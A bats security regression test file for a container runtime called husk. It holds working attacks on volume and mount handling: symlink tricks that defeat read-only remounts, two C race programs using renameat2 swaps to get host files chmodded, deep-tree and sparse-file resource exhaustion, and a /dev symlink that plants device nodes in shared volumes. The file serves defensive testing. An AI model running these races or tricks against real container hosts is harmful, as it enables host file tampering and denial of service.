#!/usr/bin/env bats
# Attacks on volumes and mounts (the code of 7a0b742..f226748): a hostile
# image, and a hostile process in a container that may share a volume with
# other containers, against husk's later commands. Each test fails on a
# defect found in that code (the deep tree in an upper layer is the same
# defect in older code; the /dev race is opt-in, it takes up to 50 s).
# The racing programs are compiled here with gcc -static.

load ../integration/helpers

setup() {
	keeping_setup
}

teardown() {
	volume_removing_teardown
}


# The flags of a mount (-v ...:ro) are set by a remount that looks the
# target up again by its path. Once the volume is mounted, that lookup can
# go through the volume's own content: the image's /t is "/d/sub/.." (the
# mount lands on /d), the volume's "sub" is a symlink to /sys/fs, so the
# second lookup ends at /sys and the volume stays writable.
@test "attack: a symlink in a volume moves its :ro remount elsewhere, the volume stays writable" {
	plant() {
		mkdir -p "$1/d/sub"
		ln -s /d/sub/.. "$1/t"
	}
	busybox_image roimg plant
	husk run --rm --network none -v rov:/x busybox ln -s /sys/fs /x/sub
	run husk run --rm --network none -v rov:/t:ro roimg \
		sh -c 'grep " /d " /proc/self/mountinfo; touch /d/written'
	written=$(ls "$HUSK_ROOT/volumes/rov/_data")
	husk volume rm rov >/dev/null
	husk image rm roimg >/dev/null
	[[ "$written" != *written* ]] || fail "wrote into a volume mounted :ro: $output"
}

# A hostile container that shares an empty volume waits for another
# container's copy-up into it, and swaps each special file husk has just
# made (mknodat) for a symlink to a host file (renameat2 RENAME_EXCHANGE,
# which fails until the name exists). copy_special() then sets the mode
# with fchmodat(..., 0), which follows the symlink on the host.
race_program() {
	cat >"$1.c" <<'PROGRAM'
#define _GNU_SOURCE
#include <errno.h>
#include <fcntl.h>
#include <linux/fs.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/syscall.h>
#include <time.h>
#include <unistd.h>

/* race DIR NAMES TARGET: NAMES lists, in the order husk makes them, the
 * entries copy-up will make in DIR. */
static int expired(time_t deadline) { return time(NULL) > deadline; }

int main(int argc, char **argv)
{
    if (argc != 4 || chdir(argv[1]) < 0)
        return 1;
    static char names[20000][64];
    int n = 0;
    FILE *list = fopen(argv[2], "r");
    while (list && n < 20000 && fgets(names[n], sizeof(names[n]), list))
        names[n][strcspn(names[n], "\n")] = '\0', n++;
    time_t deadline = time(NULL) + 50;
    while (faccessat(AT_FDCWD, names[0], F_OK, AT_SYMLINK_NOFOLLOW) != 0)
        if (expired(deadline))
            return 2;
    char tmp[32];
    for (int i = 1; i < n; i++) {
        snprintf(tmp, sizeof(tmp), ".s%d", i);
        symlink(argv[3], tmp);
    }
    int swapped = 0;
    deadline = time(NULL) + 20;
    for (int i = 1; i < n && !expired(deadline); i++) {
        snprintf(tmp, sizeof(tmp), ".s%d", i);
        for (long spins = 0;; spins++) {
            if (syscall(SYS_renameat2, AT_FDCWD, tmp, AT_FDCWD, names[i], RENAME_EXCHANGE) == 0) {
                swapped++;
                break;
            }
            if (errno != ENOENT || ((spins & 0xffff) == 0 && expired(deadline)))
                break;
        }
    }
    printf("swapped %d\n", swapped);
    return 0;
}
PROGRAM
	command -v gcc >/dev/null || skip "gcc is needed to build the racing program"
	gcc -O2 -static -o "$1" "$1.c"
}

@test "attack: a container sharing an empty volume swaps copy-up's fifos for symlinks, husk chmods a host file" {
	plant() {
		mkdir "$1/src"
		(cd "$1/src" && mkfifo f{1..3000} && chmod 4777 f*)
	}
	busybox_image fifoimg plant
	bin=$BATS_TEST_TMPDIR/bin
	mkdir "$bin"
	race_program "$bin/race"
	# The order copy-up meets them: readdir of the same directory.
	ls -f "$(husk image inspect -f '{{.GraphDriver.Data.UpperDir}}' fifoimg)/src" | grep -v '^\.' >"$bin/names"
	victim=$BATS_TEST_TMPDIR/victim
	echo secret >"$victim"
	chmod 0600 "$victim"
	husk volume create shared >/dev/null
	husk run -d --name attacker --network none -v shared:/v -v "$bin:/b:ro" busybox \
		/b/race /v /b/names "$victim" >/dev/null
	sleep 1
	# Refusing to copy once a fifo has been swapped is fine; chmod is not.
	run husk create --name victim --network none -v shared:/src fifoimg true
	husk wait attacker >/dev/null
	swapped=$(husk logs attacker)
	mode=$(stat -c %a "$victim")
	husk rm -f attacker >/dev/null
	husk rm -f victim >/dev/null 2>&1 || true
	husk volume rm shared >/dev/null
	husk image rm fifoimg >/dev/null
	[ "$mode" = 600 ] || fail "copy-up chmodded the host file $victim to $mode ($swapped)"
}


# A container fills its volume with a tree deeper than husk has fds:
# remove_entries() (src/util/file.c) keeps one open directory per level,
# skips what it cannot open, and the removal fails, after volume_remove()
# has renamed the volume to a hidden .removing-XXXXXX that no husk command
# lists or removes again: the data stays on disk for good. 1024 is the usual
# soft limit of a shell; with a higher one the tree only has to be deeper.
@test "attack: a deep tree in a volume: volume rm fails half way and leaves a hidden copy nothing removes" {
	husk volume create deep >/dev/null
	husk run --rm --network none -v deep:/v busybox sh -c \
		'cd /v; i=0; while [ $i -lt 1200 ]; do mkdir d; cd d; i=$((i+1)); done
		 dd if=/dev/zero of=kept bs=1M count=8 2>/dev/null'
	run bash -c 'ulimit -n 1024; "$HUSK" volume rm deep; "$HUSK" volume prune -a -f'
	left=$(ls -A "$HUSK_ROOT/volumes")
	rm -rf "$HUSK_ROOT/volumes/"*
	[ -z "$left" ] || fail "volume rm and prune left $left in the volumes directory ($output)"
}

# The same walk removes a container's directory: a deep tree in its upper
# layer leaves the directory (8 MiB of data with it) behind a `husk rm` that
# has already dropped the name, and `container prune` does not see it.
@test "attack: a deep tree in a container's upper layer: rm and container prune leave its directory" {
	husk run --name deepc --network none busybox sh -c \
		'cd /tmp; i=0; while [ $i -lt 1200 ]; do mkdir d; cd d; i=$((i+1)); done
		 dd if=/dev/zero of=kept bs=1M count=8 2>/dev/null'
	run bash -c 'ulimit -n 1024; "$HUSK" rm deepc; "$HUSK" rm -f deepc; "$HUSK" container prune -f'
	left=$(ls -A "$HUSK_ROOT/containers")
	rm -rf "$HUSK_ROOT/containers/"*
	[ -z "$left" ] || fail "rm and prune left the container directory $left ($output)"
}

# Copy-up writes every byte of a file, holes included, while the image
# keeps them as holes (layer_unpack.c's pwrite at the block offsets): a
# few KiB of image becomes SIZE bytes of the data root per volume made. A
# 1 TiB hole fills the host's disk while `husk run` copies zeros for hours.
@test "attack: a sparse file at an image's VOLUME: copy-up writes its holes out in full" {
	husk run --rm --network none busybox true
	root=$BATS_TEST_TMPDIR/root
	mkdir "$root"
	cp -a "$(husk image inspect -f '{{.GraphDriver.Data.UpperDir}}' busybox)/." "$root/"
	mkdir "$root/data"
	truncate -s 256M "$root/data/sparse"
	tar -S -C "$root" -c . | husk import -c 'CMD ["sh"]' -c 'VOLUME /data' - sparseimg >/dev/null
	rm -rf "$root"
	layer=$(husk image inspect -f '{{.GraphDriver.Data.UpperDir}}' sparseimg)
	in_image=$(du -k "$layer/data/sparse" | cut -f1)
	id=$(husk create --network none -v sp:/data sparseimg true)
	in_volume=$(du -k "$HUSK_ROOT/volumes/sp/_data/sparse" | cut -f1)
	husk rm "$id" >/dev/null
	husk volume rm sp >/dev/null
	husk image rm sparseimg >/dev/null
	[ "$in_image" -le 64 ] || fail "the image itself holds $in_image KiB"
	[ "$in_volume" -le 1024 ] || fail "a $in_image KiB file of the image took $in_volume KiB in the volume"
}

# An image whose /dev is a symlink to a VOLUME path: husk's /dev tmpfs is
# mounted there (through the symlink), then the volume covers it, and
# create_devices() (src/runtime/rootfs.c) resolves "/dev" to the volume:
# it unlinks the volume's files named null, zero, full, random, urandom and
# tty and mknods device nodes in their place, in a volume other containers
# share. There, a container that swaps a fresh node for a symlink before
# create_device()'s fchmodat(..., 0) gets a host file chmodded 0666 (see
# the race below, HUSK_SLOW_RACES=1).
@test "attack: an image with /dev -> a volume's target: husk makes its device nodes in the shared volume" {
	plant() {
		rm -rf "$1/dev"
		ln -s /data "$1/dev"
	}
	busybox_image devimg plant
	husk volume create devshared >/dev/null
	husk run --rm --network none -v devshared:/v busybox sh -c 'echo mine > /v/random'
	run husk run --rm --network none -v devshared:/data devimg true
	data=$HUSK_ROOT/volumes/devshared/_data
	listing=$(ls -l "$data")
	# Never read it: it may now be a character device (1,8).
	random=$(stat -c %F "$data/random")
	husk volume rm devshared >/dev/null
	husk image rm devimg >/dev/null
	[ "$random" = "regular file" ] || fail "starting the container replaced the volume's file 'random' with a $random: $listing"
	if grep -q '^[cb]' <<<"$listing"; then
		fail "device nodes made in the shared volume: $listing"
	fi
}

# The consequence of the test above, as a race (opt-in, HUSK_SLOW_RACES=1:
# it hit once in ~90 starts here). A container sharing the volume swaps
# each fresh node husk makes for a symlink to a host file; create_device()
# runs before pivot_root, so its fchmodat(..., 0) follows the symlink on
# the host and makes the file 0666.
devrace_program() {
	cat >"$1.c" <<'PROGRAM'
#define _GNU_SOURCE
#include <fcntl.h>
#include <linux/fs.h>
#include <stdio.h>
#include <stdlib.h>
#include <sys/stat.h>
#include <sys/syscall.h>
#include <time.h>
#include <unistd.h>

/* devrace DIR TARGET SECONDS */
int main(int argc, char **argv)
{
    static const char *const names[] = {"null", "zero", "full", "random", "urandom", "tty"};
    char tmp[6][8];
    if (argc != 4 || chdir(argv[1]) < 0)
        return 1;
    for (int i = 0; i < 6; i++) {
        snprintf(tmp[i], sizeof(tmp[i]), ".t%d", i);
        symlink(argv[2], tmp[i]);
    }
    int swapped = 0;
    time_t deadline = time(NULL) + atoi(argv[3]);
    for (long round = 0; (round & 0xfff) != 0 || time(NULL) < deadline; round++)
        for (int i = 0; i < 6; i++) {
            struct stat st;
            if (syscall(SYS_renameat2, AT_FDCWD, tmp[i], AT_FDCWD, names[i], RENAME_EXCHANGE) != 0 ||
                fstatat(AT_FDCWD, tmp[i], &st, AT_SYMLINK_NOFOLLOW) < 0 || S_ISLNK(st.st_mode))
                continue;
            swapped++;
            unlink(tmp[i]);
            symlink(argv[2], tmp[i]);
        }
    printf("swapped %d\n", swapped);
    return 0;
}
PROGRAM
	command -v gcc >/dev/null || skip "gcc is needed to build the racing program"
	gcc -O2 -static -o "$1" "$1.c"
}

@test "attack (race, slow): a container sharing the volume under /dev gets a host file chmodded 0666" {
	[ -n "${HUSK_SLOW_RACES:-}" ] || skip "set HUSK_SLOW_RACES=1: up to 50 s of container starts"
	plant() {
		rm -rf "$1/dev"
		ln -s /data "$1/dev"
	}
	busybox_image devimg plant
	bin=$BATS_TEST_TMPDIR/bin
	mkdir "$bin"
	devrace_program "$bin/devrace"
	victim=$BATS_TEST_TMPDIR/victim
	echo secret >"$victim"
	chmod 0600 "$victim"
	husk volume create devshared >/dev/null
	husk run -d --name attacker --network none -v devshared:/v -v "$bin:/b:ro" busybox \
		/b/devrace /v "$victim" 50 >/dev/null
	starts=0
	while [ $SECONDS -lt 45 ] && [ "$(stat -c %a "$victim")" = 600 ]; do
		husk run --rm --network none -v devshared:/data devimg true >/dev/null 2>&1 || true
		starts=$((starts + 1))
	done
	mode=$(stat -c %a "$victim")
	husk rm -f attacker >/dev/null
	husk volume rm devshared >/dev/null
	husk image rm devimg >/dev/null
	[ "$mode" = 600 ] || fail "after $starts starts husk had chmodded the host file $victim to $mode"
}
